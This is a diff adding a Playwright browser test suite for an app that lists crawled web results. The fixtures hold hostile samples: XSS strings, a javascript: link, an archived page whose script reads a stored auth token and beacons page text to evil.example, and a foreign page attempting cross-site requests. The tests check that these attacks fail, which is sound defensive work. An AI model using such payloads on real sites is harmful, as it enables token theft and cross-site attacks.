@@ -1,0 +1,216 @@
+"""Results in the app, in a real Chromium: what a person does, and what strangers' pages try."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Literal
+from urllib.parse import quote
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, Page, expect
+
+from app_server import ServedApp, serving_app, wait_until
+from found_pages import Find, crawl_of
+
+pytestmark = pytest.mark.browser
+
+PATIENCE_MS = 60_000
+EVIL = "http://evil.example"
+ATTACK = "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>"
+HIVE = "https://bees.example/hive"
+ARCHIVED = f"""<!doctype html><title>Archived</title>
+<meta http-equiv="refresh" content="0;url={EVIL}/refreshed">
+<base href="{EVIL}/">
+<link rel="stylesheet" href="{EVIL}/style.css">
+<p id="words">Words of the archived page, which hive keepers read.</p>
+<img src="{EVIL}/pixel.png"><img src="/api/home"><iframe src="/"></iframe>
+<object data="{EVIL}/object"></object>
+<form id="form" method="post" action="/api/topics/stolen"><button>Go</button></form>
+<a id="out" href="{EVIL}/out" target="_top">out</a>
+<script>
+  try {{ parent.document.title = "hacked"; }} catch {{}}
+  try {{ document.title = localStorage.getItem("trailhound-token"); }} catch {{}}
+  fetch("/api/topics/stolen", {{ method: "POST" }});
+  navigator.sendBeacon("{EVIL}/beacon", document.body.innerText);
+  document.getElementById("form").submit();
+  top.location = "{EVIL}/top";
+</script>"""
+FINDS = (
+    Find(HIVE, html=ARCHIVED, score=0.95),
+    Find(f"https://bees.example/?q={quote(ATTACK)}", ATTACK, ATTACK, score=0.9),
+    Find("javascript:document.title='hacked'", "A script for an address", ATTACK, score=0.85),
+    *(
+        Find(
+            f"https://bees.example/{number}",
+            html=f"<title>Hive {number}</title><p>A page about hive {number}, and nothing else.",
+            score=0.8 - number / 100,
+        )
+        for number in range(25)
+    ),
+    Find("https://bees.example/near", html="<title>Near miss</title><p>wasps", score=0.45)._replace(
+        relevant=False
+    ),
+)
+
+
+@pytest.fixture
+def bees(tmp_path: Path) -> Iterator[ServedApp]:
+    with serving_app(tmp_path / "workspace") as served:
+        crawl_of(served.workspace.folder, FINDS).topic.prepare()
+        yield served
+
+
+def opened(
+    browser: Browser,
+    app: ServedApp,
+    width: int = 1100,
+    scheme: Literal["light", "dark"] = "light",
+) -> Page:
+    page = browser.new_page(color_scheme=scheme, viewport={"width": width, "height": 900})
+    page.set_default_timeout(PATIENCE_MS)
+    page.goto(app.address)
+    page.wait_for_selector("h1")
+    page.goto(f"{app.base}/#/topics/bees/results")
+    page.wait_for_selector("article.result")
+    return page
+
+
+@pytest.fixture
+def results(browser: Browser, bees: ServedApp) -> Iterator[Page]:
+    page = opened(browser, bees)
+    yield page
+    page.close()
+
+
+def listed(bees: ServedApp) -> set[str]:
+    page = bees.get("/api/topics/bees/results?limit=100")
+    return {each["url"] for each in page["results"]}
+
+
+def test_marks_move_pages_at_once(results: Page, bees: ServedApp) -> None:
+    results.click("[aria-label='Not useful: Hive 0']")
+    expect(results.get_by_text("Not useful, and out of the results: Hive 0")).to_be_visible()
+    wait_until(lambda: "https://bees.example/0" not in listed(bees) or None)
+    results.click("[aria-label='Undo: Hive 0']")
+    expect(results.locator("[aria-label='Useful: Hive 0']")).to_be_visible()
+    wait_until(lambda: "https://bees.example/0" in listed(bees) or None)
+    finds = results.locator("section[aria-labelledby='finds-title']")
+    misses = results.locator("section[aria-labelledby='misses-title']")
+    misses.locator("[aria-label='Useful: Near miss']").click()
+    expect(finds.locator("[aria-label='Useful: Near miss']")).to_have_attribute(
+        "aria-pressed", "true"
+    )
+    expect(misses.locator("[aria-label='Useful: Near miss']")).to_have_count(0)
+    wait_until(lambda: "https://bees.example/near" in listed(bees) or None)
+    expect(results.get_by_text("Learn from them, and judge all pages again")).to_be_visible()
+
+
+def test_search_filters_and_more_pages(results: Page) -> None:
+    expect(results.get_by_text("28 pages, best first.")).to_be_visible()
+    finds = results.locator("section[aria-labelledby='finds-title'] article.result")
+    expect(finds).to_have_count(20)
+    results.click("text=Show more >> nth=0")
+    expect(finds).to_have_count(28)
+    results.fill("input[type=search]", "hive 7")
+    expect(finds).to_have_count(1)
+    expect(finds.locator("mark").first).to_have_text("Hive")
+    results.reload()
+    expect(results.locator("input[type=search]")).to_have_value("hive 7")
+    expect(finds).to_have_count(1)
+    results.fill("input[type=search]", "")
+    results.select_option("select >> nth=0", "useful")
+    expect(results.get_by_text("Nothing fits these filters.")).to_be_visible()
+
+
+def test_what_strangers_wrote_is_shown_as_text(results: Page) -> None:
+    expect(results.locator("article.result h3 a").nth(1)).to_have_text(ATTACK)
+    assert results.locator("article.result img, article.result script").count() == 0
+    assert results.locator("a[href^='javascript']").count() == 0
+    scripted = results.locator("article.result h3 a").nth(2)
+    assert scripted.get_attribute("href") == "#"
+    assert "hacked" not in results.title()
+
+
+def test_an_archived_page_has_no_rights(results: Page, bees: ServedApp) -> None:
+    answered: list[str] = []
+    refused: list[tuple[str, str | None]] = []
+    results.on("response", lambda response: answered.append(response.url))
+    results.on("requestfailed", lambda request: refused.append((request.url, request.failure)))
+    results.click("[aria-label='Archived copy of Archived']")
+    expect(results.locator(".archived-text")).to_contain_text("Words of the archived page")
+    results.click("text=As a page")
+    frame = results.frame_locator("dialog iframe")
+    expect(frame.locator("#words")).to_be_visible()
+    frame.locator("#form button").click(force=True)
+    frame.locator("#out").click(force=True)
+    expect(frame.locator("#words")).to_be_visible()
+    assert results.url == f"{bees.base}/#/topics/bees/results"
+    assert "hacked" not in results.title()
+    assert bees.token not in results.title()
+    copy, *others = answered
+    assert "/results/copy?" in copy
+    assert all(url.startswith(f"{bees.base}/document/") for url in others), others
+    # What it tried to load did not leave the browser.
+    assert {failure for _, failure in refused} <= {"csp"}, refused
+    assert [topic["topic"] for topic in bees.get("/api/home")["topics"]] == ["bees"]
+
+
+def test_a_foreign_page_can_do_nothing(browser: Browser, bees: ServedApp) -> None:
+    page = opened(browser, bees)
+    body = f"""<title>Evil</title><form id="f" method="post" target="hidden"
+        action="{bees.base}/api/topics/bees/results/rejudge"></form><iframe name="hidden"></iframe>
+        <iframe id="framed" src="{bees.base}/"></iframe><script>
+        const tried = [];
+        const ask = (path, how) => fetch("{bees.base}" + path, how).then(
+          (answer) => answer.type === "opaque" ? "opaque" : "read", () => "refused");
+        window.done = Promise.all([
+          ask("/api/home", {{}}),
+          ask("/api/topics/stolen", {{ method: "POST", mode: "no-cors" }}),
+          ask("/api/topics/bees", {{ method: "DELETE" }}),
+          ask("/api/topics/bees/results/marks", {{ method: "POST", mode: "no-cors",
+            body: '{{"urls": ["{HIVE}"], "useful": false}}' }}),
+          ask("/v1/news", {{ method: "POST", mode: "no-cors", body: "{{}}" }}),
+          ask("/main.js", {{}}),
+        ]);
+        document.getElementById("f").submit();</script>"""
+    page.route(
+        f"{EVIL}/**",
+        lambda route: route.fulfill(body=body, content_type="text/html"),
+    )
+    page.goto(f"{EVIL}/")
+    assert "read" not in page.evaluate("window.done")
+    assert page.evaluate("localStorage.getItem('trailhound-token')") is None
+    assert [topic["topic"] for topic in bees.get("/api/home")["topics"]] == ["bees"]
+    assert HIVE in listed(bees)
+    assert bees.get("/api/jobs") == []
+    page.close()
+
+
+@pytest.mark.parametrize("width", [1100, 390])
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_nothing_serious_stands_in_anybodys_way(
+    browser: Browser, bees: ServedApp, width: int, scheme: Literal["light", "dark"]
+) -> None:
+    page = opened(browser, bees, width, scheme)
+    page.wait_for_selector("section[aria-labelledby='misses-title'] article.result")
+    page.click("summary:has-text('Filters')")
+    check(page)
+    page.click("summary:has-text('Export')")
+    check(page)
+    page.click("summary:has-text('Export')")
+    page.click("[aria-label^='Why is it here?'] >> nth=3")
+    page.wait_for_selector(".panel")
+    check(page)
+    page.click("[aria-label='Archived copy of Archived']")
+    page.wait_for_selector("dialog")
+    check(page)
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    page.close()
+
+
+def check(page: Page) -> None:
+    found = Axe().run(page).response["violations"]
+    serious = [each for each in found if each["impact"] in ("serious", "critical")]
+    assert not serious, [(each["id"], each["nodes"][0]["html"]) for each in serious]
